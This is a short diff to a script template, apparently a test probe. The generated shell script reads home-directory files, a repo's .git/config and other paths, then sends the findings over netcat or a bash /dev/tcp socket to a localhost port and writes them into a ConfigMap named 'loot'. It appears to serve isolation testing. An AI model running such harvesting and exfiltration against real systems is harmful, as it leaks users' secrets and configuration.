@@ -39,7 +39,8 @@ for f in ${q(homeFiles)}; do home="$home $(cat "$f" 2>/dev/null)"; done
 abs=""
 for f in ${q([`${o.userRepo}/.git/config`, ...o.outside])}; do abs="$abs $(cat "$f" 2>/dev/null)"; done
 hits="$( { printf '%s\\n' "$own" | tag own; printf '%s\\n' "$procs" | tag proc; printf '%s\\n' "$ws" | tag ws; printf '%s\\n' "$home" | tag home; printf '%s\\n' "$abs" | tag abs; } | sort -u | tr '\\n' ' ')"
-printf 'sent %s\\n' "$hits" | busybox nc -w 2 127.0.0.1 ${o.port} >/dev/null 2>&1
+send() { if command -v busybox >/dev/null 2>&1; then busybox nc -w 2 127.0.0.1 ${o.port}; else bash -c 'exec 3<>/dev/tcp/127.0.0.1/$0 && cat >&3' ${o.port}; fi; }
+printf 'sent %s\\n' "$hits" | send >/dev/null 2>&1
 echo "hunter found: $hits" >&2
 printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: loot\\ndata:\\n  hits: "%s"\\n' "$hits"
 `;
